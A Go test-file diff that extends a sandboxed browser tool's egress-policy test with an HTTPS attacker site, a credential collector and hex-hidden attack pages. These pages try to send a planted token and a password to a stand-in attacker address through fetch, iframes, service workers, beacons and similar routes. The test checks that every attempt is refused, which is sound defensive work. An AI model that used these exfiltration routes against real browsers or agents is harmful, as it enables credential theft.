@@ -14,10 +14,19 @@ package browser_test
 
 import (
 	"bytes"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/tls"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/hex"
 	"encoding/json"
+	"encoding/pem"
 	"fmt"
 	"html"
 	"log/slog"
+	"math/big"
 	"net"
 	"net/http"
 	"net/netip"
@@ -34,12 +43,13 @@ import (
 )
 
 const (
-	netnsEnv     = "HERMES_BROWSER_NETNS"
-	metadataIP   = "169.254.169.254"
-	privateIP    = "10.20.30.40"
-	attackerIP   = "44.44.44.44" // public to the policy; it exists only on the loopback device of the namespace the test makes
-	loopbackPort = "8081"
-	rebindDomain = ".rebind.hermes-test" // one name per policy below
+	netnsEnv       = "HERMES_BROWSER_NETNS"
+	attackerKeyEnv = "HERMES_BROWSER_NETNS_KEY"
+	metadataIP     = "169.254.169.254"
+	privateIP      = "10.20.30.40"
+	attackerIP     = "44.44.44.44" // public to the policy; it exists only on the loopback device of the namespace the test makes
+	loopbackPort   = "8081"
+	rebindDomain   = ".rebind.hermes-test" // one name per policy below
 	// plantedToken looks like a GitHub token to the redaction patterns.
 	plantedToken = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
 )
@@ -68,7 +78,11 @@ func TestEgressPolicy(t *testing.T) {
 		`exec "$0" -test.run '^TestEgressPolicy$' -test.v`,
 	}, "\n")
 	cmd := exec.Command("unshare", "--user", "--map-root-user", "--net", "--mount", "sh", "-c", script, os.Args[0])
-	cmd.Env = append(os.Environ(), netnsEnv+"=1")
+	// The attacker's HTTPS site has a certificate the run inside trusts
+	// as the system's roots (Go's SSL_CERT_FILE): the egress proxy, which
+	// verifies every host, connects to it as to a real site.
+	certFile, keyFile := attackerCertificate(t, dir)
+	cmd.Env = append(os.Environ(), netnsEnv+"=1", "SSL_CERT_FILE="+certFile, attackerKeyEnv+"="+keyFile)
 	out, err := cmd.CombinedOutput()
 	if err != nil && !bytes.Contains(out, []byte("=== RUN")) {
 		// The namespace itself could not be made: say why.
@@ -162,7 +176,7 @@ func attackFromInside(t *testing.T) {
 		t.Fatalf("DNS stub: %v", err)
 	}
 	t.Cleanup(func() { stub.Close() })
-	site := attackerSite(t, h)
+	site, secureSite := attackerSite(t, h)
 
 	metadata := "http://" + metadataIP + "/latest/meta-data/iam/"
 	private := "http://" + privateIP + "/admin"
@@ -248,19 +262,42 @@ func attackFromInside(t *testing.T) {
 				}
 				noSecret(t, res)
 			})
+			// Credentials are refused the same under every address
+			// policy: the default one covers them.
+			credentials := i == 0
 			t.Run("credentials in request URLs", func(t *testing.T) {
-				for _, target := range []string{
-					// A malformed escape elsewhere must not switch the check off.
-					"http://" + attackerIP + "/collect?k=" + percentEncode(plantedToken) + "&bad=%zz",
-					"http://" + attackerIP + "/collect?k=" + plantedToken,
-					"http://user:hunter2@" + attackerIP + "/collect",
-				} {
+				if !credentials {
+					return
+				}
+				for _, target := range credentialTargets(site, secureSite) {
 					res, isErr := d.call("browser_navigate", map[string]any{"url": target})
 					if !isErr || strings.Contains(fmt.Sprint(res), plantedToken) || strings.Contains(fmt.Sprint(res), "hunter2") {
 						t.Errorf("navigate with a credential = %v, want refused without echoing it", res)
 					}
-					for _, route := range []string{"fetch", "img", "iframe", "websocket"} {
-						d.call("browser_navigate", map[string]any{"url": site + "/attack/" + route + "?to=" + urlQuery(target)})
+					for _, route := range pageRoutes {
+						t.Run(route+"→"+safeName(target), func(t *testing.T) {
+							mark, before := logs.mark(), h.reached()["collector"]
+							// The target in hex, as an attacker hides it: the
+							// page's own URL must pass the check.
+							res, _ := d.call("browser_navigate", map[string]any{"url": site + "/attack/" + route + "?hex=" + hex.EncodeToString([]byte(target))})
+							if route == "link" || route == "popup-link" || route == "window-open" {
+								res, _ = d.call("browser_click", map[string]any{"ref": refOf(t, res, "go there")})
+							}
+							if strings.Contains(target, "@") {
+								// The browser itself declines to send some
+								// of these (fetch() throws, subresources
+								// with credentials are blocked); those
+								// that reach the collector were sent with
+								// no credential, and its password
+								// challenge was refused.
+								if !refusedWithin(logs, mark, attackerIP, 1500*time.Millisecond) && h.reached()["collector"] != before {
+									t.Errorf("the collector was reached and no refusal was logged")
+								}
+							} else {
+								waitRefused(t, logs, mark, attackerIP)
+							}
+							noSecret(t, res)
+						})
 					}
 				}
 				time.Sleep(300 * time.Millisecond)
@@ -283,26 +320,16 @@ func attackFromInside(t *testing.T) {
 var pageRoutes = []string{"js-navigation", "link", "popup-link", "fetch", "xhr", "img", "iframe", "meta-refresh",
 	"form", "window-open", "websocket", "eventsource", "prefetch", "beacon", "redirect", "worker-fetch", "service-worker"}
 
-func attackerSite(t *testing.T, h *hostile) string {
+// attackerSite serves the attack pages on the attacker's address, over
+// HTTP and HTTPS.
+func attackerSite(t *testing.T, h *hostile) (plain, secure string) {
 	t.Helper()
 	mux := http.NewServeMux()
 	mux.HandleFunc("/plain", func(w http.ResponseWriter, r *http.Request) {
 		fmt.Fprint(w, `<!doctype html><title>Plain</title><p>A plain page.</p>`)
 	})
-	mux.HandleFunc("/collect", func(w http.ResponseWriter, r *http.Request) {
-		if strings.Contains(r.URL.String(), plantedToken) || r.URL.User != nil || strings.Contains(r.Header.Get("Authorization"), "Basic") {
-			h.mu.Lock()
-			h.creds = append(h.creds, r.URL.String()+" "+r.Header.Get("Authorization"))
-			h.mu.Unlock()
-		}
-		if r.Header.Get("Authorization") == "" {
-			// A browser sends user:password@ only when challenged.
-			w.Header().Set("WWW-Authenticate", `Basic realm="collect"`)
-			http.Error(w, "who are you", http.StatusUnauthorized)
-			return
-		}
-		fmt.Fprint(w, "collected")
-	})
+	mux.HandleFunc("/collect/", collect(h))
+	mux.HandleFunc("/collect", collect(h))
 	mux.HandleFunc("/go", func(w http.ResponseWriter, r *http.Request) {
 		http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
 	})
@@ -311,14 +338,17 @@ func attackerSite(t *testing.T, h *hostile) string {
 		fmt.Fprint(w, `onmessage = e => fetch(e.data).then(r => r.text()).then(t => postMessage(t), () => postMessage("failed"))`)
 	})
 	mux.HandleFunc("/sw.js", func(w http.ResponseWriter, r *http.Request) {
-		// A service worker runs apart from the page (its own target,
-		// outside the page's request guard): only the proxy stands in
-		// its way.
+		// A service worker runs apart from the page, in a target of its
+		// own that no tab watches.
 		w.Header().Set("Content-Type", "text/javascript")
 		fmt.Fprint(w, `self.addEventListener("install", e => e.waitUntil(fetch(new URL(location).searchParams.get("to")).catch(() => null)))`)
 	})
 	mux.HandleFunc("/attack/{route}", func(w http.ResponseWriter, r *http.Request) {
 		to := r.URL.Query().Get("to")
+		if h := r.URL.Query().Get("hex"); h != "" {
+			b, _ := hex.DecodeString(h)
+			to = string(b)
+		}
 		js, attr := jsString(to), html.EscapeString(to)
 		ws := jsString("ws" + strings.TrimPrefix(to, "http"))
 		var body string
@@ -371,7 +401,109 @@ func attackerSite(t *testing.T, h *hostile) string {
 	srv := &http.Server{Handler: mux, ReadHeaderTimeout: 5 * time.Second}
 	go srv.Serve(ln)
 	t.Cleanup(func() { srv.Close() })
-	return "http://" + attackerIP
+	tln, err := net.Listen("tcp", attackerIP+":443")
+	if err != nil {
+		t.Fatalf("listen on the attacker's HTTPS address: %v", err)
+	}
+	cert, err := tls.LoadX509KeyPair(os.Getenv("SSL_CERT_FILE"), os.Getenv(attackerKeyEnv))
+	if err != nil {
+		t.Fatalf("the attacker's certificate: %v", err)
+	}
+	tsrv := &http.Server{Handler: mux, ReadHeaderTimeout: 5 * time.Second}
+	go tsrv.Serve(tls.NewListener(tln, &tls.Config{Certificates: []tls.Certificate{cert}}))
+	t.Cleanup(func() { tsrv.Close() })
+	return "http://" + attackerIP, "https://" + attackerIP
+}
+
+// collect is the attacker's credential collector: it records every request
+// that reaches it with the planted token or a password.
+func collect(h *hostile) http.HandlerFunc {
+	return func(w http.ResponseWriter, r *http.Request) {
+		h.mu.Lock()
+		h.hits["collector"]++
+		h.mu.Unlock()
+		if strings.Contains(r.URL.String(), plantedToken) || r.URL.User != nil || strings.Contains(r.Header.Get("Authorization"), "Basic") {
+			h.mu.Lock()
+			h.creds = append(h.creds, r.URL.String()+" "+r.Header.Get("Authorization"))
+			h.mu.Unlock()
+		}
+		if r.Header.Get("Authorization") == "" {
+			// A browser sends user:password@ only when challenged.
+			w.Header().Set("WWW-Authenticate", `Basic realm="collect"`)
+			http.Error(w, "who are you", http.StatusUnauthorized)
+			return
+		}
+		fmt.Fprint(w, "collected")
+	}
+}
+
+// attackerCertificate writes a certificate for the attacker's address and
+// its key into dir.
+func attackerCertificate(t *testing.T, dir string) (certFile, keyFile string) {
+	t.Helper()
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tmpl := &x509.Certificate{
+		SerialNumber: big.NewInt(1),
+		Subject:      pkix.Name{CommonName: attackerIP},
+		NotBefore:    time.Now().Add(-time.Hour),
+		NotAfter:     time.Now().Add(24 * time.Hour),
+		KeyUsage:     x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign,
+		ExtKeyUsage:  []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
+		IsCA:         true, BasicConstraintsValid: true,
+		IPAddresses: []net.IP{net.ParseIP(attackerIP)},
+	}
+	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	keyDER, err := x509.MarshalPKCS8PrivateKey(key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	certFile, keyFile = filepath.Join(dir, "attacker.pem"), filepath.Join(dir, "attacker.key")
+	for file, block := range map[string]*pem.Block{certFile: {Type: "CERTIFICATE", Bytes: der}, keyFile: {Type: "PRIVATE KEY", Bytes: keyDER}} {
+		if err := os.WriteFile(file, pem.EncodeToMemory(block), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return certFile, keyFile
+}
+
+// credentialTargets are the collector's URLs with a credential in them,
+// over HTTP and HTTPS (which the proxy reads inside TLS).
+func credentialTargets(site, secureSite string) []string {
+	var out []string
+	for _, base := range []string{site, secureSite} {
+		scheme, host, _ := strings.Cut(base, "://")
+		out = append(out,
+			// A malformed escape elsewhere must not switch the check off.
+			base+"/collect?k="+percentEncode(plantedToken)+"&bad=%zz",
+			base+"/collect/"+plantedToken,
+			scheme+"://user:hunter2@"+host+"/collect",
+		)
+	}
+	return out
+}
+
+// safeName is a subtest name for a URL that carries a credential.
+func safeName(target string) string {
+	name := strings.ReplaceAll(target, plantedToken, "TOKEN")
+	return strings.ReplaceAll(name, percentEncode(plantedToken), "ENCTOKEN")
+}
+
+// refusedWithin reports whether a refusal of host is logged within d.
+func refusedWithin(logs *logRecorder, mark int, host string, d time.Duration) bool {
+	deadline := time.Now().Add(d)
+	for !logs.refused(host, mark) {
+		if time.Now().After(deadline) {
+			return false
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	return true
 }
 
 // waitRefused waits until the browser logged a refusal of host: the page's
@@ -379,13 +511,8 @@ func attackerSite(t *testing.T, h *hostile) string {
 // as a hit on the hostile server.
 func waitRefused(t *testing.T, logs *logRecorder, mark int, host string) {
 	t.Helper()
-	deadline := time.Now().Add(15 * time.Second)
-	for !logs.refused(host, mark) {
-		if time.Now().After(deadline) {
-			t.Errorf("no refusal of %s was logged", host)
-			return
-		}
-		time.Sleep(20 * time.Millisecond)
+	if !refusedWithin(logs, mark, host, 15*time.Second) {
+		t.Errorf("no refusal of %s was logged", host)
 	}
 }
 
